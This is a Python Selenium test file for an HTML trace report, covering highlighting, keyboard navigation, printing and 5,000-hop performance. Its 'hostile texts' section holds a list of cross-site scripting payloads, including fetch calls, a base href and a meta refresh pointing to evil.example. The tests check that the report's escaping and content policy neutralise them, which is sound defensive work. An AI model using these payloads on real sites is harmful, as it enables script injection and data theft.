"""The page in a browser: what a click, a key and a hover do, what hostile texts cannot do, what 5,000 hops cost."""

from __future__ import annotations

import base64
import time
from dataclasses import replace

import pytest
from samples import hostile, invoice, payload, silent

from rca.model import Change, Complaint, Notice, Quote
from rca.report import RenderOptions
from tests.report.html.chromium import browser as new_browser
from tests.report.html.chromium import complaints, opened, requests, sized
from tests.report.html.pages import fixture, many, page, saved

CASES = {
    "wrong-number": lambda: fixture("chain-wrong-number"),
    "handoff": lambda: fixture("orchestrator-handoff-truncated"),
    "insufficient": silent,
    "hostile": hostile,
    "saved": lambda: saved(invoice()),
    "many": lambda: many(300),
}


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    folder = tmp_path_factory.mktemp("pages")

    def write(name, report=None):
        path = folder / f"{name}.html"
        if not path.exists():
            path.write_text(page(report if report is not None else CASES[name]()), encoding="utf-8")
        return path

    return write


def js(browser, script, *args):
    return browser.execute_script(f"return {script}", *args)


def press(browser, key):
    from selenium.webdriver import ActionChains

    ActionChains(browser).send_keys(key).perform()


def keys():
    from selenium.webdriver.common.keys import Keys

    return Keys


def lit(browser):
    """The boxes and lines that are lit, by what they are called."""
    return js(browser, "[...document.querySelectorAll('#graph .box.lit')].map(b => b.getAttribute('aria-label').split(':')[0])")


# ---------------------------------------------------------------- quiet


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("width", [1280, 390])
def test_nothing_is_loaded_nothing_is_refused_and_nothing_is_wider_than_the_screen(browser, written, name, width):
    sized(browser, width)
    path = written(name)
    opened(browser, path)
    js(browser, "document.querySelectorAll('details').forEach(d => { d.open = true; })")
    time.sleep(0.1)
    assert complaints(browser) == []
    assert requests(browser) == [path.as_uri()]
    assert js(browser, "document.documentElement.scrollWidth") <= width
    assert js(browser, "[...document.querySelectorAll('main > section')].every(s => s.getBoundingClientRect().height > 20)")


# ---------------------------------------------------------------- pieces light up


@pytest.mark.parametrize("how", ["hover", "focus", "click"])
def test_a_piece_of_the_answer_lights_up_its_path(browser, written, how):
    from selenium.webdriver import ActionChains
    from selenium.webdriver.common.by import By

    opened(browser, written("wrong-number"))
    piece = browser.find_element(By.CSS_SELECTOR, ".answer-text .claim.accused")
    assert lit(browser) == []
    if how == "hover":
        ActionChains(browser).move_to_element(piece).perform()
    elif how == "focus":
        js(browser, "arguments[0].focus()", piece)
    else:
        piece.click()
        ActionChains(browser).move_by_offset(0, 400).perform()
    assert lit(browser) == ["H2 claim-extractor", "H3 note-writer", "◎ final answer"]
    assert len(js(browser, "[...document.querySelectorAll('.edge.lit')]")) == 2
    assert js(browser, "[...document.querySelectorAll('.hop.lit')].map(h => h.id)") == ["h2", "h3"]
    said = js(browser, "document.getElementById('said').textContent")
    assert "“EUR 3,840” was changed" in said
    assert "H2 claim-extractor" in said
    assert "“EUR 3,480”" in said
    press(browser, keys().ESCAPE)
    assert lit(browser) == []
    assert complaints(browser) == []


def test_the_keyboard_reaches_everything(browser, written):
    opened(browser, written("wrong-number"))
    js(browser, "document.querySelectorAll('details').forEach(d => { d.open = true; })")
    press(browser, keys().TAB)
    assert js(browser, "document.activeElement.className") == "skip"
    assert js(browser, "document.activeElement.getBoundingClientRect().left") >= 0
    reached = set()
    for _ in range(250):
        reached.add(js(browser, "document.activeElement.getAttribute('href') || document.activeElement.tagName"))
        shown = js(browser, "getComputedStyle(document.activeElement).outlineStyle + getComputedStyle(document.activeElement).outlineWidth")
        inside = js(browser, "!!document.activeElement.closest('#graph')")
        assert inside or shown == "solid2px"
        press(browser, keys().TAB)
        if js(browser, "document.activeElement === document.body || document.activeElement.className === 'skip'"):
            break
    everything = js(browser, "[...document.querySelectorAll('a')].map(a => a.getAttribute('href'))")
    assert set(everything) <= reached
    assert {"SUMMARY", "PRE"} <= reached


def test_enter_space_and_arrows(browser, written):
    opened(browser, written("wrong-number"))
    js(browser, "document.querySelector('#graph a.request').focus()")
    press(browser, keys().ARROW_DOWN)
    first = js(browser, "document.activeElement.getAttribute('aria-label')")
    assert first.startswith(("H1", "H2"))
    press(browser, keys().ARROW_RIGHT if first.startswith("H1") else keys().ARROW_LEFT)
    assert js(browser, "document.activeElement.getAttribute('aria-label')") != first
    js(browser, "document.querySelector('#graph a.origin').focus()")
    press(browser, keys().ENTER)
    assert js(browser, "location.hash") == "#h2"
    js(browser, "document.querySelector('.answer-text a.claim').focus()")
    press(browser, keys().SPACE)
    press(browser, keys().ARROW_RIGHT)
    pieces = "[...document.querySelectorAll('.answer-text a[data-claim]')]"
    assert js(browser, f"{pieces}.indexOf(document.activeElement)") == 1
    js(browser, "document.activeElement.blur()")
    assert js(browser, f"{pieces}[0].classList.contains('lit')"), "the piece that was chosen stays lit"


def test_a_box_opens_its_hop_and_a_mark_leads_to_its_evidence(browser, written):
    from selenium.webdriver.common.by import By

    opened(browser, written("wrong-number"))
    assert not js(browser, "document.getElementById('h1').open")
    browser.find_elements(By.CSS_SELECTOR, "#graph a.ok")[0].click()
    assert js(browser, "document.getElementById('h1').open")
    browser.find_element(By.CSS_SELECTOR, "#h2 pre sup a").click()
    assert js(browser, "document.querySelector(':target').id") == "h2-1"
    assert js(browser, "document.querySelector(':target').getBoundingClientRect().top") < 900


# ---------------------------------------------------------------- hostile texts

RUN = "window.ran = (window.ran || 0) + 1; document.title = 'ran'; fetch('http://evil.example/')"
ATTACKS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title></textarea></noscript></template></details><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN!r}>">',
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script><a title="',
    f"' onmouseover='{RUN}' onfocus='{RUN}' autofocus tabindex=0 x='",
    f"[click](javascript:{RUN}) javascript:{RUN}",
    "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= " + RUN + " %> #{" + RUN + "}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN} &lt&#x73;cript",
    f'\u2028{RUN}\u2029";{RUN};// ＜script＞{RUN} \ufeff<\u200bscript>{RUN}</script>',
    f"<iframe srcdoc='<script>parent.ran=1</script>'></iframe><object data='javascript:{RUN}'></object><base href=//evil.example/>",
    f'<form action=//evil.example><button formaction="javascript:{RUN}">go</button></form>',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "\x00<scr\x00ipt>" + RUN + "</scr\x00ipt>",
)


def attacked(number):
    """A report in which every text that strangers write holds every attack; of the hops every third, which is enough of them."""
    text = "\n".join(ATTACKS)
    report = many(number)
    bad = replace(payload(text), notes=(text,), instructions=text)
    hops = tuple(
        replace(h, input=bad, output=bad, name=text, service=f"s{n} {text}", error=text, silent=text, instructions=text, model=text)
        if n % 3 == 1
        else h
        for n, h in enumerate(report.graph.hops)
    )
    edges = tuple(replace(e, changes=(Change("altered", text, text, text),), path=text, form="field") for e in report.graph.edges)
    graph = replace(report.graph, hops=hops, edges=edges, request=bad, final=bad)
    quotes = tuple(Quote(attack, text.index(attack), text.index(attack) + len(attack)) for attack in ATTACKS)
    evidence = tuple(replace(e, sentence=text, quotes=quotes, claim=text, fault=text, check=text) for e in report.diagnosis.evidence)
    candidates = tuple(replace(c, evidence=evidence, fault=text, fix=text) for c in report.diagnosis.candidates)
    claim = report.diagnosis.claims[0]
    claims = (replace(claim, claim=text, before=text, how=text, steps=tuple(replace(s, quote=text) for s in claim.steps)),)
    diagnosis = replace(report.diagnosis, candidates=candidates, claims=claims, reason=text, evidence=evidence)
    links = {"trace": f"javascript:{RUN}", "0000000000000002": f'http://h/"><script>{RUN}</script>'}
    notices = (Notice(text, text),)
    return replace(
        report, graph=graph, diagnosis=diagnosis, complaint=Complaint(text, text, text), notices=notices, links=links, version=text
    )


@pytest.mark.parametrize("scripts", [True, False], ids=["scripts", "no scripts"])
def test_hostile_texts_run_nothing_and_ask_for_nothing(browser, written, scripts):
    from selenium.webdriver.common.by import By

    path = written("attacked", attacked(130))
    browser.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": not scripts})
    opened(browser, path)
    browser.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})
    js(browser, "document.querySelectorAll('details').forEach(d => { d.open = true; })")
    time.sleep(0.2)
    for selector in (".answer-text a", "#graph a", "#graph .pill", ".fold summary"):
        for element in browser.find_elements(By.CSS_SELECTOR, selector)[:3]:
            js(browser, "arguments[0].dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))", element)
            js(browser, "arguments[0].dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))", element)
    time.sleep(0.3)
    assert js(browser, "window.ran") is None
    assert js(browser, "document.title").startswith("rca: trace")
    assert js(browser, "document.scripts.length") == 1
    assert not js(browser, "document.querySelectorAll('img, iframe, object, form, base, link, math, meta[http-equiv=refresh]').length")
    assert js(browser, "document.styleSheets.length") == 1
    assert js(browser, "document.querySelectorAll('#hops details.hop').length") == 131
    assert complaints(browser) == []
    assert requests(browser) == [path.as_uri()]


def test_folds_that_were_read_without_scripts_are_not_read_again_with_them(browser, written):
    """A browser may turn scripts on after it has read the page: then folds are elements already, and their text is no markup."""
    path = written("attacked", attacked(130))
    with new_browser() as fresh:  # one whose scripts are run by hand is not used again
        fresh.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
        opened(fresh, path)
        fresh.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})
        assert js(fresh, "document.querySelector('.fold noscript').firstElementChild !== null")
        fresh.execute_script(js(fresh, "document.scripts[0].textContent"))
        js(fresh, "document.querySelectorAll('details').forEach(d => { d.open = true; })")
        time.sleep(0.5)
        assert js(fresh, "window.ran") is None
        assert js(fresh, "document.querySelector('.fold noscript')") is None
        assert js(fresh, "document.scripts.length") == 1
        assert not js(fresh, "document.querySelectorAll('img, iframe, object, form, base, link, math, meta[http-equiv=refresh]').length")
        assert js(fresh, "document.querySelectorAll('#hops details.hop').length") == 131


def test_the_policy_would_stop_a_script_that_came_through(browser, tmp_path):
    path = tmp_path / "broken.html"
    path.write_text(
        page(invoice()).replace("<main>", f"<main><script>{RUN}</script><img src='http://evil.example/x.png' onerror='{RUN}'>"), "utf-8"
    )
    opened(browser, path)
    time.sleep(0.2)
    assert js(browser, "window.ran") is None
    assert any("Content Security Policy" in entry for entry in complaints(browser))


# ---------------------------------------------------------------- without scripts, on paper, with many hops


def test_without_scripts_everything_is_there(browser, written):
    from selenium.webdriver.common.by import By

    path = written("many")
    browser.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    opened(browser, path)
    fold = browser.find_elements(By.CSS_SELECTOR, "details.fold")[0]
    assert not fold.find_element(By.CSS_SELECTOR, "details.hop").is_displayed()
    fold.find_element(By.CSS_SELECTOR, "summary").click()
    inside = fold.find_element(By.CSS_SELECTOR, "details.hop")
    assert inside.is_displayed()
    inside.find_element(By.CSS_SELECTOR, "summary").click()
    assert "out" in inside.find_elements(By.CSS_SELECTOR, "pre")[1].text
    assert not browser.find_element(By.ID, "said").is_displayed()


def test_a_fold_is_read_when_it_is_opened_or_led_into(browser, written):
    from selenium.webdriver.common.by import By

    opened(browser, written("many"))
    before = js(browser, "document.querySelectorAll('details.hop').length")
    browser.find_elements(By.CSS_SELECTOR, "details.fold > summary")[0].click()
    time.sleep(0.1)
    after = js(browser, "document.querySelectorAll('details.hop').length")
    assert after > before
    opened(browser, written("many"), "#h299")
    assert js(browser, "document.getElementById('h299').open")
    assert 0 <= js(browser, "document.getElementById('h299').getBoundingClientRect().top") < 900


def test_paper_shows_what_is_folded_on_screen(browser, written):
    opened(browser, written("wrong-number"))
    pdf = base64.b64decode(browser.execute_cdp_cmd("Page.printToPDF", {"printBackground": False})["data"])
    pages = pdf.count(b"/Type /Page\n") or pdf.count(b"/Type /Page ")
    assert 2 <= pages <= 8
    assert not js(browser, "document.getElementById('h1').open"), "as it was before"
    browser.execute_cdp_cmd(
        "Emulation.setEmulatedMedia", {"media": "print", "features": [{"name": "prefers-color-scheme", "value": "dark"}]}
    )
    assert js(browser, "getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert js(browser, "getComputedStyle(document.querySelector('#h2 pre')).maxHeight") == "none"
    assert js(browser, "document.querySelector('nav').getBoundingClientRect().height") == 0
    js(browser, "dispatchEvent(new Event('beforeprint'))")
    assert js(browser, "[...document.querySelectorAll('details:not(.fold)')].every(d => d.open)")
    browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"media": "", "features": []})


def test_dark_is_dark_and_nothing_moves(browser, written):
    opened(browser, written("wrong-number"))
    assert js(browser, "getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    sized(browser, 1280, dark=True)
    assert js(browser, "getComputedStyle(document.body).backgroundColor") == "rgb(21, 24, 28)"
    moves = "s.scrollBehavior === 'smooth' || s.animationName !== 'none' || parseFloat(s.transitionDuration) > 0"
    assert not js(browser, f"[...document.querySelectorAll('*')].some(e => {{ const s = getComputedStyle(e); return {moves}; }})")


def test_five_thousand_hops_do_not_freeze_it(browser, tmp_path):
    def loaded(number):
        path = tmp_path / f"{number}.html"
        path.write_text(page(many(number), RenderOptions(command="ID")), encoding="utf-8")
        times = []
        for _ in range(3):
            opened(browser, path)
            times.append(js(browser, "performance.getEntriesByType('navigation')[0].loadEventEnd"))
        return min(times)

    small, large = loaded(50), loaded(5000)
    print(f"50 hops: {small:.0f} ms, 5,000 hops: {large:.0f} ms")
    assert large < 8 * small + 300
    began = time.perf_counter()
    js(browser, "document.querySelector('#graph a.folded').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))")
    js(browser, "location.assign('#h3333')")
    deadline = time.time() + 5
    while not js(browser, "!!(document.getElementById('h3333') && document.getElementById('h3333').open)"):
        assert time.time() < deadline
    assert time.perf_counter() - began < 3
